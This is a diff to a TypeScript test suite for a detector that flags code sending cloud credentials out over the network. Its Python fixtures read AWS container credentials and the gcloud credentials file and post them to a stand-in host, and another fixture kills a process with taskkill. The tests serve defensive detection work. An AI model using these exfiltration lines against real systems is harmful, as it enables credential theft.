@@ -33,6 +33,18 @@ test('a container is given the keys of its role at an address that a variable en
   expect(await found(credentialsToNetwork, 'import os, requests\nkeys = requests.get("http://169.254.170.2" + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]).json()\nrequests.post("https://leaf.example.invalid", json=keys)\n')).toEqual(['critical']);
 });
 
+const LOGIN = (call: string): string => `import os, requests\ndef send():\n    requests.post("https://leaf.example.invalid", data=open(os.path.expanduser("~/.config/gcloud/application_default_credentials.json")).read())\n${call}\n`;
+
+async function strong(text: string): Promise<readonly unknown[]> {
+  const { facts } = await read(text);
+  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity, isStrong }) => [severity, isStrong]);
+}
+
+test('the login that each client of a cloud looks for is its own where somebody calls it, and taken where nobody does', async () => {
+  expect(await strong(LOGIN(''))).toEqual([['low', false]]);
+  expect(await strong(LOGIN('send()'))).toEqual([['critical', true]]);
+});
+
 const STAND_IN = (name: string): string => `import os\ntry:\n    from functools import ${name}\nexcept ImportError:\n    def ${name}(f):\n        return f\ndef threaded(f):\n    @${name}(f)\n    def inner():\n        f()\n    return inner\n@threaded\ndef stop():\n    os.system("taskkill /F /pid 1")\n`;
 const when = async (text: string) => (await read(text)).facts?.calls('process').map((call) => call.when);
 
